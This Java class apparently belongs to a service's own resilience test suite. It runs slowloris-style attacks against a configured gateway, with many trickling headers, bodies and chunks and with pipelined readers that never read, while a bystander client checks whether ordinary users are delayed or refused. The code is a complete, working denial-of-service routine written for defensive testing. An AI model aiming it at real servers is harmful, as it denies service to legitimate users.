package org.evenhand.attack.slow;

import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.function.Consumer;
import org.evenhand.attack.Caller;
import org.evenhand.attack.Findings;
import org.evenhand.attack.Target;
import org.evenhand.attack.wire.Wire;

/**
 * So many slow clients that they would hold up everybody: heads and bodies that trickle, and
 * readers that don't read. Others must not notice.
 */
public final class SlowAttack {

  private static final int SENDERS = 140;
  private static final int READERS = 60;
  private static final int PIPELINED = 100;

  private final Target target;
  private final Findings findings;
  private final Duration length;
  private final Duration unnoticed;

  /**
   * @param length of each of them
   * @param unnoticed how long a bystander may wait before it counts as a finding
   */
  public SlowAttack(Target target, Findings findings, Duration length, Duration unnoticed) {
    this.target = target;
    this.findings = findings;
    this.length = length;
    this.unnoticed = unnoticed;
  }

  public void run(Consumer<String> out) {
    Caller slow = target.with("manager");
    Wire wire = target.gateway();
    Clients senders = new Clients(SENDERS, wire::connect);
    attack(out, "heads that trickle", senders, "GET /v1/me HTTP/1.1\r\nHost: x\r\nX-Slow: ", "a");
    attack(out, "bodies that trickle", senders, put(slow, ""), " ");
    attack(out, "chunks that trickle", senders, put(slow, "chunked"), "1\r\n \r\n");
    // Without the small window their own system would take it all, on the machine that is attacked.
    Clients readers = new Clients(READERS, wire::connectWithSmallWindow);
    attack(out, "readers that don't read", readers, pipelined(""), "");
    attack(out, "readers with a token that don't read", readers, pipelined(token(slow)), "");
  }

  private String put(Caller caller, String coding) {
    return "PUT /v1/reviews/00000000-0000-7000-8000-000000000000/context-note HTTP/1.1\r\nHost: "
        + target.gateway().authority()
        + "\r\n"
        + token(caller)
        + "If-Match: \"1\"\r\nContent-Type: application/json\r\n"
        + (coding.isEmpty() ? "Content-Length: 5000\r\n" : "Transfer-Encoding: chunked\r\n")
        + "\r\n";
  }

  private String pipelined(String token) {
    String one =
        "GET /openapi.json HTTP/1.1\r\nHost: "
            + target.gateway().authority()
            + "\r\n"
            + token
            + "\r\n";
    return one.repeat(PIPELINED);
  }

  private static String token(Caller caller) {
    return "Authorization: " + caller.authorization() + "\r\n";
  }

  private record Clients(int number, Door door) {}

  private interface Door {
    Socket connect() throws IOException;
  }

  private void attack(
      Consumer<String> out, String what, Clients clients, String first, String drip) {
    List<Socket> open = new ArrayList<>();
    Bystander bystander = new Bystander(target, bystander());
    try (bystander) {
      Instant end = Instant.now().plus(length);
      for (int i = 0; i < clients.number(); i++) {
        Socket socket = clients.door().connect();
        open.add(socket);
        send(socket, first);
      }
      while (Instant.now().isBefore(end)) {
        open.forEach(socket -> send(socket, drip));
        Thread.sleep(500);
      }
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    } catch (IOException e) {
      findings.add("a slow client", what, "no connection could be had: " + e.getMessage());
    } finally {
      open.forEach(SlowAttack::close);
    }
    judge(out, what, clients.number(), bystander);
  }

  private void judge(Consumer<String> out, String what, int clients, Bystander bystander) {
    if (bystander.worst().compareTo(unnoticed) > 0) {
      findings.add(
          "others wait",
          clients + " " + what,
          "a bystander waited " + bystander.worst().toMillis() + " ms");
    }
    if (!bystander.refused().isEmpty()) {
      findings.add("others are refused", clients + " " + what, "with " + bystander.refused());
    }
    out.accept(
        "slow: %d %s; a bystander asked %d times and waited %d ms at most"
            .formatted(clients, what, bystander.asked(), bystander.worst().toMillis()));
  }

  /** A caller who is not one of the slow ones. */
  private Caller bystander() {
    return target.callers().stream()
        .filter(caller -> caller.roles().equals(Set.of("employee")))
        .findFirst()
        .orElseThrow();
  }

  /** Being cut off is what a slow client is supposed to get. */
  private static void send(Socket socket, String text) {
    try {
      socket.getOutputStream().write(text.getBytes(StandardCharsets.UTF_8));
      socket.getOutputStream().flush();
    } catch (IOException e) {
      close(socket);
    }
  }

  private static void close(Socket socket) {
    try {
      socket.close();
    } catch (IOException e) {
      // it is gone
    }
  }
}
